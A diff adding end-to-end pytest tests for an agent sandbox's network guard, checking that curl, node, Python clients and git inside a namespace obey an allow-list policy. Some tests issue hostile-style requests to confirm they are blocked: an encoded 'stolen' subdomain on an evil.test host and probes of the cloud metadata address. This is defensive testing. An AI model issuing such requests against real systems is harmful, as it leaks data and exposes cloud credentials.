@@ -1,0 +1,223 @@
+"""A real network namespace in front of the guard: every address is local, DNS is ours, programs know of no proxy."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import shutil
+import socket
+import sys
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+
+from agent_os.effects.proxy import ListenerIdentity, Treatment
+from tests.e2e.network.world import Client, Place, World, response
+
+pytestmark = [
+    pytest.mark.kernel,
+    pytest.mark.root,
+    pytest.mark.skipif(os.geteuid() != 0, reason="makes a network and a mount namespace as root"),
+]
+
+INSIDE = """
+import ctypes, json, os, socket, subprocess, sys
+sys.path.insert(0, {root!r})
+from agent_os.effects.sandbox import launcher
+libc = ctypes.CDLL(None, use_errno=True)
+if libc.unshare(0x40000000 | 0x00020000):
+    sys.exit("unshare: " + os.strerror(ctypes.get_errno()))
+libc.mount(b"none", b"/", None, 0x4000 | 0x40000, None)
+open({resolv!r}, "w").write("nameserver 10.0.0.53\\n")
+if libc.mount({resolv!r}.encode(), b"/etc/resolv.conf", None, 0x1000, None):
+    sys.exit("mount: " + os.strerror(ctypes.get_errno()))
+control = socket.socket(fileno=int(sys.argv[1]))
+launcher.build_network({{"mode": "guarded", "tcp_ports": {ports}, "dns": True, "proxy_port": 3128}}, control)
+control.send(b"done")
+for line in sys.stdin:
+    done = subprocess.run(json.loads(line), capture_output=True, timeout=20)
+    print(json.dumps([done.returncode, (done.stdout + done.stderr).decode(errors="replace")]), flush=True)
+"""
+
+
+class Inside:
+    """A namespace with a shell in it; its listeners are served by the guard."""
+
+    def __init__(self, process: asyncio.subprocess.Process, env: dict[str, str]) -> None:
+        self.process, self.env = process, env
+
+    async def run(self, *argv: str) -> tuple[int, str]:
+        """Run a program inside; its status and output."""
+        command = ["env", *(f"{name}={value}" for name, value in self.env.items()), *argv]
+        assert self.process.stdin is not None
+        assert self.process.stdout is not None
+        self.process.stdin.write(json.dumps(command).encode() + b"\n")
+        status, output = json.loads(await asyncio.wait_for(self.process.stdout.readline(), 30))
+        return status, output
+
+
+async def enter(world: World, ports: list[int]) -> tuple[Inside, ListenerIdentity]:
+    """Make the namespace and serve its listeners."""
+    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+    root = str(Path(__file__).resolve().parents[3])
+    script = INSIDE.format(root=root, resolv=str(world.folder / "resolv.conf"), ports=ports)
+    process = await asyncio.create_subprocess_exec(
+        sys.executable, "-c", script, str(theirs.fileno()), pass_fds=[theirs.fileno()],
+        stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE,
+    )  # fmt: skip
+    theirs.close()
+    identity = ListenerIdentity(sandbox_pid=process.pid, label="box")
+    assert world.guard is not None
+    while True:
+        data, descriptors, _, _ = await asyncio.to_thread(socket.recv_fds, ours, 65536, 64)
+        if not data or data == b"done":
+            break
+        for entry, descriptor in zip(json.loads(data)["names"], descriptors, strict=True):
+            await world.guard.serve_listener(socket.socket(fileno=descriptor), entry["kind"], identity)
+    ours.close()
+    env = {**world.guard.environment(), "PATH": os.environ["PATH"], "HOME": str(world.folder)}
+    return Inside(process, env), identity
+
+
+@pytest.fixture
+async def inside(world: World) -> AsyncIterator[tuple[World, Inside, int]]:
+    """A namespace, and a.test behind the guard (inspected TLS); b.test is allowed for no program that is here."""
+    upstream = await world.upstream(tls=["a.test", "b.test"])
+    world.allow(Place("a.test", upstream.port, [("GET", "/ok*")], Treatment()))
+    world.allow(Place("b.test", upstream.port, treatment=Treatment(), binaries=["/usr/bin/nobody-has-this"]))
+    await world.start()
+    place, _ = await enter(world, [upstream.port])
+    yield world, place, upstream.port
+    assert place.process.stdin is not None
+    place.process.stdin.close()
+    await place.process.wait()
+
+
+async def test_curl_without_any_proxy_is_held_to_the_policy(inside: tuple[World, Inside, int]) -> None:
+    """DNS, TLS and request all pass the guard: allowed is served, a forbidden path is a 403 inside the tunnel."""
+    world, box, port = inside
+    assert await box.run("curl", "-sS", f"https://a.test:{port}/ok") == (0, "hello")
+    status, said = await box.run("curl", "-sS", f"https://a.test:{port}/secret")
+    assert status == 0
+    assert json.loads(said)["status"] == 403
+    stated = world.door.stated[0]
+    assert stated["executable"].path == os.path.realpath(shutil.which("curl") or "")
+    assert stated["resolved_ips"] == ("127.0.0.1",)
+
+
+async def test_a_program_that_is_not_listed_is_told_so_in_its_own_tongue(inside: tuple[World, Inside, int]) -> None:
+    """A transparent TLS connection that is denied gets a readable 403 inside TLS."""
+    _, box, port = inside
+    status, said = await box.run("curl", "-sS", f"https://b.test:{port}/ok")
+    assert status == 0
+    assert json.loads(said)["title"] == "denied by policy"
+
+
+async def test_names_that_no_rule_can_allow_do_not_exist(inside: tuple[World, Inside, int]) -> None:
+    """DNS answers NXDOMAIN for them, whatever server the program asks, and nothing was looked up outside."""
+    world, box, port = inside
+    status, said = await box.run("curl", "-sS", f"https://c3RvbGVu.evil.test:{port}/")
+    assert status == 6
+    assert "resolve" in said
+    assert world.resolver.asked == []
+
+
+async def test_addresses_are_denied_unless_listed(inside: tuple[World, Inside, int]) -> None:
+    """Connecting to an address directly is refused, the metadata address and public ones alike."""
+    world, box, port = inside
+    for literal in ("169.254.169.254", "93.184.215.14", "[2606:2800:21f::1]"):
+        status, said = await box.run("curl", "-sS", "-k", f"https://{literal}:{port}/latest/")
+        assert '"status": 403' in said or status != 0
+    status, _ = await box.run("curl", "-sS", f"http://93.184.215.14:{port + 1 if port < 65535 else 1}/")
+    assert status == 7  # no listener: refused by the kernel
+    assert not world.upstreams[0].received
+
+
+async def test_the_sandbox_proxy_port_serves_too(inside: tuple[World, Inside, int]) -> None:
+    """A program that speaks to the proxy on loopback gets the same answers."""
+    _, box, port = inside
+    assert await box.run("curl", "-sS", "-x", "http://127.0.0.1:3128", f"https://a.test:{port}/ok") == (0, "hello")
+    assert await box.run("curl", "-sS", "-x", "socks5h://127.0.0.1:3128", f"https://a.test:{port}/ok") == (0, "hello")
+    assert await box.run("curl", "-sS", "http://policy.local/may?host=evil.test", "-x", "http://127.0.0.1:3128")
+
+
+@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
+async def test_node_fetch(inside: tuple[World, Inside, int]) -> None:
+    """node's fetch trusts the CA from the environment and is held to the policy."""
+    _, box, port = inside
+    script = f"fetch('https://a.test:{port}/ok').then(r=>r.text()).then(console.log,e=>console.log(e.cause))"
+    assert await box.run("node", "-e", script) == (0, "hello\n")
+
+
+async def test_python_clients(inside: tuple[World, Inside, int]) -> None:
+    """requests, httpx and urllib work unchanged, and are denied alike."""
+    _, box, port = inside
+    program = (
+        f"import requests, httpx, urllib.request as u\nbase='https://a.test:{port}'\n"
+        "print(requests.get(base+'/ok').text, httpx.get(base+'/ok').text, u.urlopen(base+'/ok').read().decode())\n"
+        "print(requests.get(base+'/no').status_code, httpx.post(base+'/ok', json={}).status_code)"
+    )
+    assert await box.run(sys.executable, "-c", program) == (0, "hello hello hello\n403 403\n")
+
+
+async def test_a_peer_of_another_namespace_cannot_use_the_sandbox_listener(world: World) -> None:
+    """A unix listener of one sandbox refuses a process outside its namespace; an unbound one serves it."""
+    upstream = await world.upstream()
+    world.allow(Place("a.test", upstream.port))
+    await world.start()
+    box, identity = await enter(world, [upstream.port])
+    assert world.guard is not None
+    for label, who in (("theirs", identity), ("ours", ListenerIdentity(executables=False))):
+        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        sock.bind(str(world.folder / label))
+        sock.listen()
+        await world.guard.serve_listener(sock, "proxy", who)
+    client = await Client.to(str(world.folder / "theirs"))
+    client.send(b"CONNECT a.test:1 HTTP/1.1\r\nHost: a.test:1\r\n\r\n")
+    assert await client.rest() == b""
+    assert world.guard.snapshot()["counts"]["alerts"] == 1
+    twin = await Client.to(str(world.folder / "ours"))
+    assert await twin.connect(f"a.test:{upstream.port}") == 200
+    twin.close()
+    assert box.process.stdin is not None
+    box.process.stdin.close()
+    await box.process.wait()
+
+
+async def test_pip_git_and_large_bodies(world: World, tmp_path: Path) -> None:
+    """git clones over inspected https from a real http-backend-free server (dumb protocol)."""
+    source = tmp_path / "source"
+    commands = (
+        f"git init -q {source} && cd {source} && git -c user.name=t -c user.email=t@t commit -q --allow-empty -m first"
+        " && git update-server-info"
+    )
+    made = await asyncio.create_subprocess_shell(commands)
+    assert await made.wait() == 0
+
+    async def files(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        while True:
+            head = await reader.readuntil(b"\r\n\r\n")
+            path = tmp_path / "source" / ".git" / head.split(b" ")[1].decode().partition("?")[0].removeprefix("/repo/")
+            if path.is_file():
+                writer.write(response(path.read_bytes()))
+            else:
+                writer.write(response(b"", status="404 Not Found"))
+            await writer.drain()
+
+    upstream = await world.upstream(files, tls="git.test")
+    world.allow(Place("git.test", upstream.port, [("GET", "/repo/*")], Treatment()))
+    await world.start()
+    box, _ = await enter(world, [upstream.port])
+    status, said = await box.run(
+        "git", "clone", "-q", f"https://git.test:{upstream.port}/repo/", str(tmp_path / "copy")
+    )
+    assert status == 0, said
+    assert (tmp_path / "copy" / ".git" / "HEAD").exists()
+    status, said = await box.run("git", "clone", "-q", f"https://git.test:{upstream.port}/other/", str(tmp_path / "no"))
+    assert status != 0
+    assert "403" in said
+    assert box.process.stdin is not None
+    box.process.stdin.close()
+    await box.process.wait()
